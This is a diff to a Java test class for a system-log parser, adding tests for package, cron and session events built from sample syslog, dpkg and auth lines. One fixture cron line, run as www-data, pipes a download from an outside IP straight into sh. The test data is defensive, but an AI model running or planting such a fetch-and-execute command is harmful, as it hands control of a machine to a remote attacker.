@@ -19,7 +19,7 @@ class AdminMessagesTest {
         SyslogParser p = new SyslogParser(ZoneOffset.UTC, Instant.parse("2026-12-31T00:00:00Z"));
         List<String> out = new ArrayList<>();
         for (String line : lines) {
-            p.parse(line).map(l -> AdminMessages.event(l, "/f", 1)).filter(Objects::nonNull)
+            p.parseAny(line).map(l -> AdminMessages.event(l, "/f", 1)).filter(Objects::nonNull)
                     .ifPresent(e -> out.add(e.kind().label() + " [" + e.actor() + "] [" + e.target() + "] [" + e.detail() + "]"));
         }
         return out;
@@ -47,6 +47,56 @@ class AdminMessagesTest {
                         "Nov 20 04:00:00 web1 gpasswd[7002]: user eve added by root to group docker",
                         "Nov 20 04:00:00 web1 passwd[7003]: pam_unix(passwd:chauthtok): password changed for eve",
                         "Nov 20 04:00:00 web1 sudo: pam_unix(sudo:session): session opened for user root by alice(uid=1000)"));
+    }
+
+    @Test
+    void packagesCronAndSessions() {
+        assertEquals(List.of(
+                "package_installed [] [nmap] [7.93+dfsg1-1]",
+                "package_upgraded [] [sudo] [1.9.13p3-1 -> 1.9.13p3-1+deb12u1]",
+                "package_removed [] [auditd] [remove 1:3.0.9-1]",
+                "package_removed [] [rsyslog] [purge 8.2302.0-1]",
+                "cron_command [root] [root] [cd / && run-parts --report /etc/cron.hourly]",
+                "cron_command [www-data] [www-data] [curl -s http://203.0.113.9/x | sh]",
+                "session_opened [] [bob] [12]",
+                "shutdown [] [] [rebooting]"),
+                brief("2026-11-20 10:00:00 install nmap:amd64 <none> 7.93+dfsg1-1",
+                        "2026-11-20 10:00:00 status installed nmap:amd64 7.93+dfsg1-1",
+                        "2026-11-20 10:00:01 upgrade sudo:amd64 1.9.13p3-1 1.9.13p3-1+deb12u1",
+                        "2026-11-20 10:00:02 remove auditd:amd64 1:3.0.9-1 <none>",
+                        "2026-11-20 10:00:03 purge rsyslog:amd64 8.2302.0-1 <none>",
+                        "Nov 20 04:17:01 web1 CRON[4100]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
+                        "Nov 20 04:17:01 web1 CROND[4101]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)",
+                        "Nov 20 04:17:01 web1 CRON[4100]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
+                        "Nov 20 04:18:00 web1 systemd-logind[412]: New session 12 of user bob.",
+                        "Nov 20 04:19:00 web1 systemd-logind[412]: Removed session 12.",
+                        "Nov 20 04:20:00 web1 systemd-logind[412]: System is rebooting."));
+    }
+
+    /** Plaso's cron log and Elastic's auth.log: each CMD line a run, each "New session" a session. */
+    @Test
+    void cronRunsAndSessionsOfRealLogs() throws Exception {
+        Path cron = Path.of("../../shared/datasets/logs/plaso/syslog/syslog_cron.log");
+        Path auth = Path.of("../../shared/datasets/logs/elastic-examples/auth.log");
+        assumeTrue(Files.isRegularFile(cron) && Files.isRegularFile(auth), "no ../shared/datasets/logs: skipped");
+        LoginLedger ledger = new LoginLedger(LoginLedger.MAX_RETRY, LoginLedger.FIND_TIME);
+        for (Path file : List.of(cron, auth)) {
+            SyslogParser p = new SyslogParser(ZoneOffset.UTC, Instant.parse("2026-12-31T00:00:00Z"));
+            LogMessages messages = new LogMessages();
+            for (String line : Files.readAllLines(file)) {
+                p.parseAny(line).ifPresent(l -> messages.events(l, file.toString(), 1, ledger::add));
+            }
+        }
+        var root = ledger.cronCommands().get("root");
+        assertEquals(5, root.get("touch /tmp/afile.txt").runs());
+        assertEquals(2, root.get("touch /var/run/crond.somecheck").runs());
+        assertEquals(Instant.parse("2026-01-22T07:54:01Z"), root.get("touch /var/run/crond.somecheck").last());
+        assertEquals(1, root.get("sleep $(( 1 * 60 )); touch /tmp/afile.txt").runs());
+        assertEquals(1, root.get("/sbin/status.mycheck").runs());
+        long sessions = Files.readAllLines(auth).stream().filter(l -> l.contains("systemd-logind") && l.contains("New session"))
+                .count();
+        assertEquals(sessions, ledger.sessionsByUser().values().stream().mapToLong(Long::longValue).sum());
+        assertTrue(sessions > 100);
     }
 
     @Test
